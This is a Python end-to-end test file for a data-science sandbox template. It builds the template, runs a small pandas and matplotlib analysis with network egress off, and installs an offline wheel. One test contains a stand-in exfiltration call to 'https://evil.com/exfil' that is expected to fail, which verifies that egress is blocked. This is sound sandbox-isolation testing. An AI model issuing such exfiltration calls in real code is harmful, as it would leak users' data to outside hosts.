"""The `datasci` template (make test-templates-slow; skipped by make test).

Built through the build cache like `python`: the first run on a machine takes
minutes (docs/benchmarks.md), later runs copy and verify the cached tree.
"""

import json
import os
import time

import pytest

from e2e_support import ROOT, Daemon
from test_templates import _build, make_wheel

pytestmark = pytest.mark.skipif(os.environ.get("AIRLOCK_SLOW") != "1",
                                reason="slow: make test-templates-slow (AIRLOCK_SLOW=1)")

SPEC = json.loads((ROOT / "templates" / "datasci.json").read_text())


@pytest.fixture(scope="module")
def ds(tmp_path_factory):
    d = Daemon(tmp_path_factory.mktemp("datasci"), extra_args=["--pool-size", "0"], name="datasci").start()
    t0 = time.monotonic()
    b = _build(d, SPEC)
    assert b["state"] == "succeeded", "\n".join(b["all_progress"])
    st, _, _, m = d.request("GET", "/v1/templates/datasci")
    assert st == 200
    print("\ndatasci: %s in %.1f s (build_seconds of the original build %.1f s), %.1f MB in %d files, "
          "erofs image %.1f MB, %d packages"
          % ("cache hit" if b["cache_hit"] else "built", time.monotonic() - t0, m["build_seconds"],
             m["size_bytes"] / 1e6, m["files"], m["image"]["bytes"] / 1e6, len(m["packages"])))
    yield d
    d.stop()
    d.assert_clean_log()


def test_brief_pandas_analysis_on_datasci(ds):
    with ds.sandbox(template="datasci", egress=False) as sb:
        sb.upload(b"name,age\nAlice,30\nBob,45", "/data/roster.csv")
        out = sb.run_code(SPEC["warmup"])
        assert out.error is None, out
        out = sb.run_code("""
import urllib.request
try:
    urllib.request.urlopen('https://evil.com/exfil', timeout=1)
except Exception as e:
    print('egress blocked:', type(e).__name__)
import pandas as pd
df = pd.read_csv('/data/roster.csv')
print('rows:', len(df), 'mean age:', df.age.mean())
import sklearn, scipy, statsmodels, openpyxl
fig = matplotlib.pyplot.figure(); fig.gca().plot(df.age); fig.savefig('/tmp/ages.png')
print('png', open('/tmp/ages.png', 'rb').read(4) == b'\\x89PNG')
""")
        assert out.error is None, out
        assert out.stdout == "egress blocked: URLError\nrows: 2 mean age: 37.5\npng True\n", out.stdout


def test_datasci_has_pip_for_offline_wheels(ds):
    name, data = make_wheel("airlock_dswheel", "1.0", "import pandas\nN = len(pandas.DataFrame({'a': [1, 2, 3]}))\n")
    with ds.sandbox(template="datasci") as sb:
        sb.upload(data, "/data/wheels/" + name)
        sb.install_wheels(["/data/wheels/" + name])
        assert sb.run_code("import airlock_dswheel; print(airlock_dswheel.N)").stdout == "3\n"
